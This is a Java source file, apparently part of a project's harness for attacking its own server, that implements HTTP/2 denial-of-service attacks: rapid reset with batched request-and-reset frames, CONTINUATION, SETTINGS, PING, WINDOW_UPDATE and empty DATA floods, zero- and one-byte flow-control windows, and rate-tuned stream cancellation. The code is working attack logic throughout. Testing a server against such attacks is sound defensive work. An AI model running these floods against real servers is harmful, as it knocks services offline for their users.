package dev.stacked.runtime.app.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.function.LongFunction;
import java.util.function.UnaryOperator;

/** Attacks over HTTP/2, within the protocol or just outside of it. */
final class Http2Attacks {
    private static final EnumSet<Listener> BOTH = EnumSet.allOf(Listener.class);
    private static final int LAST_STREAM = Integer.MAX_VALUE - 2;
    /** Requests or frames per write. */
    private static final int BATCH = 50;

    private static final int RAPID_CONNECTIONS = 2;
    /** The server allows 500 resets at once and 50 a second after that. */
    private static final int CANCELLED_AT_ONCE = 450;

    private static final int CANCEL_PAUSE_MILLIS = 25;

    private Http2Attacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        for (boolean withToken : new boolean[] {false, true}) {
            String suffix = withToken ? ", with a token" : ", without a token";
            UnaryOperator<Requests> who = withToken ? requests -> requests : Requests::withoutToken;
            all.add(rapidReset("streams" + suffix, who, number -> Requests.STREAM));
            all.add(rapidReset("snapshots" + suffix, who, number -> Requests.SNAPSHOT));
            all.add(rapidReset("made-up ids" + suffix, who, Requests::madeUpStream));
        }
        all.add(rapidReset("files", Requests::withoutToken, number -> Requests.FILE));
        all.add(both("CONTINUATION flood", 2, Http2Attacks::continuations));
        all.add(both("SETTINGS flood", 2, flood(Http2.settings(Http2.WIDE))));
        all.add(both("PING flood", 2, flood(Http2.frame(Http2.PING, 0, Http2.CONNECTION, new byte[8]))));
        all.add(both("WINDOW_UPDATE flood", 2, flood(Http2.windowUpdate(Http2.CONNECTION, 1))));
        all.add(both("empty DATA flood", 2, Http2Attacks::emptyData));
        all.add(both("zero window", 2, arena -> smallWindow(arena, 0)).with(Attack.Trait.MUST_BE_CUT_OFF));
        all.add(both("one-byte windows", 2, arena -> smallWindow(arena, 1)));
        all.add(both("cancelled streams", 1, Http2Attacks::cancel).with(Attack.Trait.LIVES_ON));
        return all;
    }

    private static Attack both(String name, int connections, Attack.Body body) {
        return Attack.on(BOTH, name, connections, body).with(Attack.Trait.SHORT_FORM_ON_TLS_ONLY);
    }

    private static Attack rapidReset(String of, UnaryOperator<Requests> who, LongFunction<String> path) {
        return both("rapid reset of " + of, RAPID_CONNECTIONS, arena -> rapidReset(arena, who, path));
    }

    /** Complete requests, each reset at once. */
    private static void rapidReset(Arena arena, UnaryOperator<Requests> who, LongFunction<String> path)
            throws IOException {
        Requests requests = who.apply(arena.requests());
        Wire wire = arena.connectHttp2(Http2.WIDE);
        arena.drain(wire);
        for (int stream = 1; arena.goesOn() && stream < LAST_STREAM; ) {
            byte[][] frames = new byte[2 * BATCH][];
            for (int i = 0; i < frames.length; i += 2, stream += 2) {
                frames[i] = requests.get(stream, path.apply(arena.nextNumber()));
                frames[i + 1] = Http2.reset(stream);
            }
            wire.send(Http2.join(frames));
            arena.sent(BATCH);
        }
    }

    /** The same frame repeatedly, without reading responses. */
    private static Attack.Body flood(byte[] frame) {
        byte[] frames = Http2.repeat(frame, BATCH);
        return arena -> {
            Wire wire = arena.connectHttp2(Http2.WIDE);
            while (arena.goesOn()) {
                wire.send(frames);
                arena.sent(BATCH);
            }
        };
    }

    /** Headers that never end. */
    private static void continuations(Arena arena) throws IOException {
        Wire wire = arena.connectHttp2(Http2.WIDE);
        arena.drain(wire);
        wire.send(arena.requests().headers(1, Http2.END_STREAM, "GET", Requests.FILE));
        byte[] empty = Http2.frame(Http2.CONTINUATION, 0, 1);
        byte[] full = Http2.frame(Http2.CONTINUATION, 0, 1, Http2.headers("x-a", "a".repeat(1000)));
        byte[] frames = Http2.join(full, empty, empty, empty, empty);
        while (arena.goesOn()) {
            wire.send(frames);
            arena.sent(5);
        }
    }

    /** An endless body of empty frames. */
    private static void emptyData(Arena arena) throws IOException {
        byte[] frames = Http2.repeat(Http2.frame(Http2.DATA, 0, 1), BATCH);
        Wire wire = arena.connectHttp2(Http2.WIDE);
        arena.drain(wire);
        wire.send(arena.requests().headers(1, Http2.END_HEADERS, "POST", Requests.REFRESH));
        while (arena.goesOn()) {
            wire.send(frames);
            arena.sent(BATCH);
        }
    }

    /** Many requests for a file, with a window of a few bytes per response or of zero. */
    private static void smallWindow(Arena arena, int window) throws IOException {
        Requests requests = arena.requests().withoutToken();
        int count = arena.length().pick(2_000, 10_000);
        Wire wire = arena.connectHttp2(window);
        CountDownLatch ended = arena.drain(wire);
        int next = 1;
        while (next < 2 * count && arena.goesOn()) {
            byte[][] frames = new byte[BATCH][];
            for (int i = 0; i < BATCH; i++, next += 2) {
                frames[i] = requests.get(next, Requests.FILE);
            }
            wire.send(Http2.join(frames));
            arena.sent(BATCH);
        }
        for (int stream = 1; window > 0 && arena.goesOn(); stream += 2) {
            wire.send(Http2.windowUpdate((stream % next) | 1, window));
        }
        arena.awaitEnd(ended);
    }

    /** Streams that are opened and closed properly and at an allowed rate, on a connection that stays open. */
    private static void cancel(Arena arena) throws IOException {
        Wire wire = arena.connectHttp2(Http2.WIDE);
        for (int stream = 1; arena.goesOn(); stream += 2) {
            wire.send(arena.requests().get(stream, Requests.STREAM));
            awaitHeaders(wire, stream);
            wire.send(Http2.reset(stream));
            arena.sent(1);
            if (stream > 2 * CANCELLED_AT_ONCE) {
                arena.pause(CANCEL_PAUSE_MILLIS);
            }
        }
    }

    private static void awaitHeaders(Wire wire, int stream) throws IOException {
        while (true) {
            ByteBuffer head = ByteBuffer.wrap(wire.readExactly(9));
            int lengthAndType = head.getInt();
            wire.readExactly(lengthAndType >>> 8);
            if ((lengthAndType & 0xff) == Http2.HEADERS && head.getInt(5) == stream) {
                return;
            }
        }
    }
}
